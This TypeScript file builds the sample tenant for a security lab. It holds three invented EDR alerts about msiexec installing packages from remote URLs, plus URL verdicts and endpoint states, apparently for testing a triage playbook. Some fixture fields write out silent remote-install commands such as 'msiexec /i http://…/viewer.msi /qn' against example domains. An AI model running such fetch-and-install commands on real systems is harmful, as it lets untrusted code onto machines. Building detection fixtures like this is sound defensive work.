/**
 * The built-in tenant of `up --lab`: three invented alerts on two invented hosts, one for each way that the msiexec playbook can
 * take: a malicious URL, a rare source started by an unsigned process, and nothing found.
 */
import type { AlertFields, TenantSpec } from './tenant.ts';

export interface SampleTenant {
  readonly tenant: TenantSpec;
  /** In order of detection; deliver them to intake and pass them to `startLab`. */
  readonly alerts: readonly AlertFields[];
}

const NAME = 'Msiexec execution of an executable from an uncommon remote location';
const DESK = { agentid: '5c0de1ab7f3e49d2a6b8c4d0e2f41357', hostname: 'WS-DESK-07', hostip: ['10.40.2.7'] };
const KIOSK = { agentid: '9e8d7c6b5a493827160f1e2d3c4b5a69', hostname: 'WS-KIOSK-12', hostip: ['10.40.9.12'] };

/** The sample as of `now` (epoch milliseconds): the alerts are a few minutes old. */
export function sampleTenant(now: number): SampleTenant {
  const alerts = [
    sampleAlert('71001', now - 6 * 60_000, {
      ...DESK,
      name: `${NAME} without properties`,
      parentXDRIncident: 'INCIDENT-3101',
      username: ['EXAMPLE\\a.lindqvist'],
      cid: ['AdxAAHcCr04AABOMAAAAAQ=='],
      cgoname: ['cmd.exe'],
      cgocmd: ['cmd.exe /c msiexec /i http://get.invoice-view.example.net/viewer.msi /qn'],
      cgosignature: ['SIGNATURE_SIGNED'],
      targetprocesscmd: ['msiexec /i http://get.invoice-view.example.net/viewer.msi /qn'],
    }),
    sampleAlert('71002', now - 4 * 60_000, {
      ...KIOSK,
      name: `${NAME} with a specific port`,
      parentXDRIncident: 'INCIDENT-3102',
      username: ['EXAMPLE\\kiosk'],
      cid: ['AdxAAHcCr04AABOMAAAAAg=='],
      cgoname: ['traylaunch.exe'],
      cgocmd: ['C:\\ProgramData\\tray\\traylaunch.exe --update'],
      cgosignature: ['SIGNATURE_UNSIGNED'],
      targetprocesscmd: ['msiexec /q /i http://cdn.tray-tools.example.org:8080/tray.msi'],
    }),
    sampleAlert('71003', now - 2 * 60_000, {
      ...DESK,
      name: `${NAME} without properties`,
      parentXDRIncident: 'INCIDENT-3103',
      username: ['EXAMPLE\\a.lindqvist'],
      cid: ['AdxAAHcCr04AABOMAAAAAw=='],
      cgoname: ['explorer.exe'],
      cgocmd: ['C:\\Windows\\explorer.exe'],
      cgosignature: ['SIGNATURE_SIGNED'],
      targetprocesscmd: ['msiexec /i https://downloads.example.com/printer-driver.msi'],
    }),
  ];
  return {
    alerts,
    tenant: {
      verdicts: {
        url: {
          'http://get.invoice-view.example.net/viewer.msi': 3,
          'https://downloads.example.com/printer-driver.msi': 1,
        },
      },
      prevalence: { domain: { 'cdn.tray-tools.example.org': false, 'downloads.example.com': true } },
      relatedAlerts: [
        {
          id: '70940',
          name: 'Rare sign-in hour',
          severity: 'LOW',
          status: 'NEW',
          agentid: DESK.agentid,
          caseid: '3090',
          mitreattcktechnique: ['T1078 - Valid Accounts'],
          minutesFromAlert: -55,
        },
      ],
      endpoints: {
        [DESK.agentid]: { status: 'CONNECTED', is_isolated: 'AGENT_UNISOLATED' },
        [KIOSK.agentid]: { status: 'CONNECTED', is_isolated: 'AGENT_UNISOLATED' },
      },
      terminate: 'COMPLETED_SUCCESSFULLY',
    },
  };
}

function sampleAlert(id: string, detectedAt: number, fields: AlertFields): AlertFields {
  return {
    id,
    severity: 'MEDIUM',
    source: 'XDR Analytics BIOC',
    detectiontimestamp: new Date(detectedAt).toISOString(),
    agentostype: 'AGENT_OS_WINDOWS',
    targetprocessname: ['msiexec.exe'],
    mitreattcktechnique: ['T1218.007 - System Binary Proxy Execution: Msiexec'],
    ...fields,
  };
}
